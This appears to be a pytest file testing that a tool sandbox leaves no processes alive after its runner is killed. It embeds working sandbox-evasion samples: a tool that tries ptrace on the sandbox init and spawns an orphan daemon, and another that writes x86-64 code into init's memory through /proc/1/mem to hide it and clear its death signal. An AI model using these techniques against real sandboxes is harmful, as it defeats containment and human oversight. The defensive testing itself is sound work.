"""Nothing a runner started lives more than a second after the runner is SIGKILLed,
wherever in a spawn the kill lands and whatever the tool does.

``kill_harness.py`` forks runners that call a tool over and over and kills each at a random
moment; the test then looks through /proc (and the Docker daemon) for anything left.
"""

from __future__ import annotations

import contextlib
import json
import os
import shutil
import signal
import subprocess
import sys
import time
import uuid
from pathlib import Path

import psutil
import pytest
import yaml
from conftest import ToolBench, watchdogs_of
from docker import APIClient

HERE = Path(__file__).resolve().parents[1] / "support"
GRACE_S = 1.0

# The tool tries the review's escape first (trace the sandbox's init to clear its
# parent-death signal), then leaves a daemon of its own behind and answers after a moment.
CLINGY = """
import ctypes, os, random, sys, time
sys.stdin.read()
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall(101, 0x4206, 1, 0, 0)  # PTRACE_SEIZE pid 1: refused by the filter
if os.fork() == 0:
    os.setsid()
    time.sleep(60)
    os._exit(0)
time.sleep(random.uniform(0, 0.03))
print("{}")
"""


def _alive_with(token: str) -> list[int]:
    found = []
    needle = token.encode()
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit() or int(entry.name) == os.getpid():
            continue
        try:
            cmdline = (entry / "cmdline").read_bytes()
            state = (entry / "stat").read_text().rsplit(")", 1)[1].split()[0]
        except OSError:
            continue
        if state != "Z" and needle in cmdline:
            found.append(int(entry.name))
    return found


def _describe(pid: int) -> str:
    try:
        cmdline = Path(f"/proc/{pid}/cmdline").read_bytes().replace(b"\0", b" ")[:120]
        status = Path(f"/proc/{pid}/status").read_text()
    except OSError:
        return f"{pid}: gone"
    fields = dict(line.split(":\t", 1) for line in status.splitlines() if ":\t" in line)
    try:
        wchan = Path(f"/proc/{pid}/wchan").read_text()
        cgroup = Path(f"/proc/{pid}/cgroup").read_text().replace("\n", " ")
    except OSError:
        wchan = cgroup = "?"
    uid = fields.get("Uid", "").split()[:1]
    return f"{pid} ppid={fields.get('PPid')} uid={uid} wchan={wchan} cgroup={cgroup} {cmdline[-60:]!r}"


def _next_round(harness: subprocess.Popen[str]) -> None:
    assert harness.stdin is not None
    harness.stdin.write("next\n")
    harness.stdin.flush()


def _harness(
    bench: ToolBench, tool: str, rounds: int, runners: int, max_delay_ms: int, sessions: bool = False
) -> subprocess.Popen[str]:
    # No pool: the harness's own runner, which lives on, would keep sandboxes of the tool
    # (a fork-mode runner killed mid-call: test_fork_mode_hostile.py).
    bench.policy["pool"] = {"size": 0}
    bench.write_policy()
    argv = [
        sys.executable,
        str(HERE / "kill_harness.py"),
        str(bench.tools),
        str(bench.root / "policies.yaml"),
    ]
    return subprocess.Popen(
        [*argv, tool, str(rounds), str(runners), str(max_delay_ms)],
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        text=True,
        cwd=HERE,
        env={**os.environ, "KILL_SESSIONS": "1" if sessions else "0"},
    )


@pytest.mark.slow
@pytest.mark.parametrize("sessions", [False, True], ids=["calls", "open-sessions"])
def test_two_hundred_runners_killed_at_random_points_leave_no_process_behind(
    bench: ToolBench, sessions: bool
) -> None:
    token = f"clingy-{uuid.uuid4().hex}"
    bench.tool("clingy", CLINGY, command=["python3", "main.py", token])
    rounds, delay_ms = 40, 250
    if sessions:  # each session sandbox keeps the daemons of its calls until the kill
        bench.policy["tools"] = {"clingy": {"session": True}}
        rounds, delay_ms = 15, 1500  # long enough for sessions to open and serve calls
    harness = _harness(bench, "clingy", rounds=rounds, runners=5, max_delay_ms=delay_ms, sessions=sessions)
    survivors: list[tuple[list[int], list[str]]] = []
    assert harness.stdout is not None
    for line in harness.stdout:
        killed = json.loads(line)
        time.sleep(max(0.0, killed["last_death"] + GRACE_S - time.monotonic()))
        left = _alive_with(token)
        if left:
            survivors.append((killed["pids"], [_describe(pid) for pid in left]))
            subprocess.run(["kill", "-9", *map(str, left)], check=False)
        _next_round(harness)
    harness.stdout.close()
    assert harness.stdin is not None
    harness.stdin.close()
    assert harness.wait() == 0
    assert survivors == []


@pytest.mark.slow
@pytest.mark.skipif(os.geteuid() != 0, reason="the hostile case needs a root runner's sandbox")
def test_runners_killed_with_hosted_servers_open_in_sessions_leave_no_process_behind(
    bench: ToolBench,
) -> None:
    token = f"hosted-{uuid.uuid4().hex}"
    folder = bench.tools / "st"
    folder.mkdir()
    shutil.copy(HERE / "servers" / "stateful_mcp.py", folder / "server.py")
    manifest = {"name": "st", "kind": "mcp", "command": ["python3", "server.py", token], "session": True}
    (folder / "tool.yaml").write_text(yaml.safe_dump(manifest))
    # Each runner holds two sessions' servers, and calls outside them start their own.
    harness = _harness(bench, "st_count", rounds=15, runners=5, max_delay_ms=1500, sessions=True)
    survivors: list[list[str]] = []
    assert harness.stdout is not None
    for line in harness.stdout:
        killed = json.loads(line)
        time.sleep(max(0.0, killed["last_death"] + GRACE_S - time.monotonic()))
        left = _alive_with(token)
        if left:
            survivors.append([_describe(pid) for pid in left])
            subprocess.run(["kill", "-9", *map(str, left)], check=False)
        _next_round(harness)
    harness.stdout.close()
    assert harness.stdin is not None
    harness.stdin.close()
    assert harness.wait() == 0
    assert survivors == []


@pytest.mark.docker
@pytest.mark.slow
@pytest.mark.parametrize("sessions", [False, True], ids=["calls", "open-sessions"])
def test_containers_of_killed_runners_are_gone_within_a_second(
    bench: ToolBench, docker_client: APIClient, sessions: bool
) -> None:
    from sandboxes.docker._client import LABEL_OWNER

    bench.tool(
        "dsleep",
        "import sys, time\nsys.stdin.read()\ntime.sleep(0.2)\nprint('{}')\n",
        sandbox="docker",
        image="runner/base:latest",
    )
    delay_ms = 1500
    if sessions:  # each runner holds two session containers besides its calls' own
        bench.policy["tools"] = {"dsleep": {"session": True}}
        delay_ms = 3000
    harness = _harness(bench, "dsleep", rounds=3, runners=4, max_delay_ms=delay_ms, sessions=sessions)
    running: list[str] = []
    assert harness.stdout is not None
    for line in harness.stdout:
        killed = json.loads(line)
        time.sleep(max(0.0, killed["last_death"] + GRACE_S - time.monotonic()))
        for pid in killed["pids"]:
            left = docker_client.containers(filters={"label": f"{LABEL_OWNER}={pid}"})  # running only
            running += [c["Id"][:12] for c in left]
        _next_round(harness)
    harness.stdout.close()
    assert harness.stdin is not None
    harness.stdin.close()
    assert harness.wait() == 0
    assert running == []
    # And removed, not just stopped, a moment later (the session fixture checks the rest).
    deadline = time.monotonic() + 10
    while time.monotonic() < deadline:
        if not docker_client.containers(all=True, filters={"label": "io.runner.managed=true"}):
            break
        time.sleep(0.2)


# The review's second escape: a tool of the same uid as its sandbox's init (bubblewrap's
# pid 1) opens /proc/1/mem, which the seccomp filter cannot refuse, erases the owner mark
# from the init's environment and has it make itself non-dumpable (nothing of it can be
# read from /proc any more: its environment, its namespaces) and clear its own
# parent-death signal (x86-64 code written at its return address), then stays. Its
# process name says how far it got.
UNMARKING = r"""
import os, sys, time
sys.stdin.read()
def named(name):
    with open("/proc/self/comm", "w") as comm:
        comm.write(name)
try:
    pc = int(open("/proc/1/syscall").read().split()[-1], 16)
    stat = open("/proc/1/stat").read()
    fields = stat[stat.rindex(")") + 2:].split()
    env_start, env_end = int(fields[47]), int(fields[48])
    mem = os.open("/proc/1/mem", os.O_RDWR)
    env = os.pread(mem, env_end - env_start, env_start)
    at = env.find(b"RUNNER_OWNER=")
    if at >= 0:
        os.pwrite(mem, b"X", env_start + at)
    # prctl(PR_SET_DUMPABLE, 0); prctl(PR_SET_PDEATHSIG, 0); then wait4(-1, 0, 0, 0) over and over
    code = bytes.fromhex("bf04000000" "31f6" "b89d000000" "0f05" "bf01000000" "31f6" "b89d000000" "0f05"
                         "48c7c7ffffffff" "31f6" "31d2" "4d31d2" "b83d000000" "0f05" "ebe9")
    os.pwrite(mem, code, pc)
    os.close(mem)
    if os.fork() == 0:  # an orphan whose end wakes the init into the new code
        if os.fork() == 0:
            time.sleep(0.2)
            os._exit(0)
        os._exit(0)
    os.wait()
    time.sleep(0.5)
    try:
        open("/proc/1/environ", "rb").close()
        named("unmarked")
    except PermissionError:
        named("hidden")
except Exception as exc:
    named("not-unmarked")
    sys.stderr.write(repr(exc))
while True:
    time.sleep(1)
"""


@pytest.mark.skipif(os.uname().machine != "x86_64", reason="the attack writes x86-64 code")
def test_a_tool_that_unmarks_and_hides_its_init_and_clears_its_death_signal_still_dies_with_the_runner(
    bench: ToolBench,
) -> None:
    token = _unmarking_tool(bench, "unmarking")
    runner = bench.spawn_runner("unmarking", f"req-{token[-12:]}")
    names = _attack_of(token)
    runner.kill()
    runner.wait()
    described = _left_after_grace(token)
    assert names & ATTACKED, "the tool never got as far as its attack"
    assert described == [], f"the tool outlived its runner (its attack: {names})"


ATTACKED = {"hidden", "unmarked", "not-unmarked"}  # the names UNMARKING gives itself once done


def _unmarking_tool(bench: ToolBench, prefix: str) -> str:
    """Writes the tool ``unmarking``; the token its processes carry (to find them by)."""
    token = f"{prefix}-{uuid.uuid4().hex}"
    bench.tool("unmarking", UNMARKING, command=["python3", "main.py", token], limits={"timeout_ms": 30000})
    return token


def _attack_of(token: str) -> set[str]:
    """The names of the unmarking tool's processes once its attack is done (30 s at most)."""
    names: set[str] = set()
    deadline = time.monotonic() + 30
    while not names & ATTACKED and time.monotonic() < deadline:
        time.sleep(0.1)
        names = {_describe_comm(pid) for pid in _alive_with(token)}
    return names


def _left_after_grace(token: str) -> list[str]:
    """What of the tool ``token`` still runs ``GRACE_S`` after its runner died; killed then."""
    time.sleep(GRACE_S)
    left = _alive_with(token)
    described = [_describe(pid) for pid in left]
    for pid in left:
        with contextlib.suppress(OSError):
            os.kill(pid, signal.SIGKILL)
    return described


def _said_ready(watchdog: int) -> bool:
    """Whether ``watchdog`` said it is ready (it closes its stdout then). Rootless its
    descriptors cannot be listed (it is not dumpable): then after 3 s, a generous bound."""
    try:
        return not Path(f"/proc/{watchdog}/fd/1").exists()
    except PermissionError:
        try:
            return time.time() - psutil.Process(watchdog).create_time() > 3.0
        except psutil.Error:
            return True  # gone: nothing to wait for


def _describe_comm(pid: int) -> str:
    try:
        return Path(f"/proc/{pid}/comm").read_text().strip()
    except OSError:
        return ""


@pytest.mark.skipif(os.uname().machine != "x86_64", reason="the attack writes x86-64 code")
def test_a_watchdog_killed_mid_call_is_started_again_at_once_and_the_tool_still_dies_with_the_runner(
    bench: ToolBench,
) -> None:
    # No sandbox starts after the kill: the new watchdog must come by itself and be told
    # what the dead one was (the call's cgroups as root, its sandbox's init without root).
    token = _unmarking_tool(bench, "unwatched")
    runner = bench.spawn_runner("unmarking", f"req-{token[-12:]}")
    try:
        names = _attack_of(token)
        first = watchdogs_of(runner.pid)
        assert len(first) == 1, first
        os.kill(first[0], signal.SIGKILL)  # by an operator, or by the kernel short of memory
        second: list[int] = []
        deadline = time.monotonic() + 20
        while second in ([], first) and time.monotonic() < deadline:
            time.sleep(0.05)
            second = watchdogs_of(runner.pid)
        # The runner tells the new one what to guard once it said ready (and closed its
        # stdout): killed before that, it would be told nothing.
        deadline = time.monotonic() + 20
        while second not in ([], first) and time.monotonic() < deadline and not _said_ready(second[0]):
            time.sleep(0.05)
        time.sleep(0.5)  # the new one reads what it is told
    finally:
        runner.kill()
        runner.wait()
    described = _left_after_grace(token)
    assert names & ATTACKED, "the tool never got as far as its attack"
    assert second not in ([], first), "no new watchdog was started for the dead one"
    assert described == [], (
        f"the tool outlived its runner, whose watchdog had been killed (its attack: {names})"
    )
